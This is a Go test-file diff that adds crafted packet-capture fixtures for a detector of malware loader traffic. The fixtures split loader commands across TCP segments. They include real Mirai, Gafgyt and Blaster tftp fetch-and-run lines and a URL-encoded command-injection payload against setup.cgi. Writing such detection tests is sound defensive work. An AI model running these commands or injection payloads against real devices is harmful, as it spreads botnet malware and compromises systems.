@@ -319,6 +319,7 @@ func craftedFiles(t testing.TB) []craftedFile {
 		)...)
 		add("legit-boot.pcap", legit...)
 		add("legit-web.pcap", legitWeb(t)...)
+		add("loader-split.pcap", loaderSplit(t)...)
 	}
 	// A pcapng with two interfaces of different link types.
 	files = append(files, craftedFile{name: "mixed.pcapng", ng: true, frames: []frame{
@@ -465,4 +466,35 @@ func legitWeb(t testing.TB) []frame {
 		tcpTo(t, other, infected, 44009, 80, "GET /wiki/index.php?title=tftp&action=edit&section=-r HTTP/1.1\r\nHost: wiki.example\r\n\r\n"),
 		tcpTo(t, other, infected, 44010, 80, "GET /dl/mirai%2Earm7?ref=tftp%20-g HTTP/1.1\r\nHost: x.example\r\n\r\n"),
 	)
+}
+
+// loaderSplit are loader lines cut into TCP segments, as shells and
+// exploits send them (see streams): the Mirai loader's line a byte a
+// segment, each segment seen twice (a capture on lo, or a
+// retransmission); the Gafgyt line in two, cut inside its script's
+// name; Blaster's shell command cut inside "tftp -i"; a URL-encoded
+// exploit cut inside %20 and the name; and an administrator's fetch of
+// an unlisted file a byte a segment (weak once, at its end). Each is one
+// finding, as the whole line is.
+func loaderSplit(t testing.TB) []frame {
+	var out [][]byte
+	segs := func(src net.IP, sport, dport uint16, seq uint32, pieces ...string) {
+		for _, p := range pieces {
+			out = append(out, tcpSeg(t, src, victim, tseg{sport: sport, dport: dport, seq: seq, payload: p}))
+			seq += uint32(len(p))
+		}
+	}
+	mirai := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper\r\n"
+	for k := range len(mirai) {
+		f := tcpSeg(t, infected, victim, tseg{sport: 45001, dport: 23, seq: 5000 + uint32(k), payload: mirai[k : k+1]})
+		out = append(out, f, f)
+	}
+	segs(infected, 45002, 2323, 9000, "cd /tmp; tftp -r axistf", "tp2.sh -g 10.0.0.9; sh axistftp2.sh\r\n")
+	segs(infected, 45003, 4444, 77, "tftp -", "i 10.0.0.9 GET msblast.exe\r\n")
+	segs(infected, 45004, 8080, 1<<32-40, "GET /setup.cgi?cmd=cd%20/tmp%3Bbusybox%20tftp%2", "0-g%20-l%20d%20-r%20mira", "i.mips%2010.0.0.9%3Bsh%20d HTTP/1.1\r\n\r\n")
+	typed := "tftp -g -r firmware.bin 10.0.0.9\r\n"
+	for k := range len(typed) {
+		segs(other, 45005, 23, 300+uint32(k), typed[k:k+1])
+	}
+	return en(out...)
 }
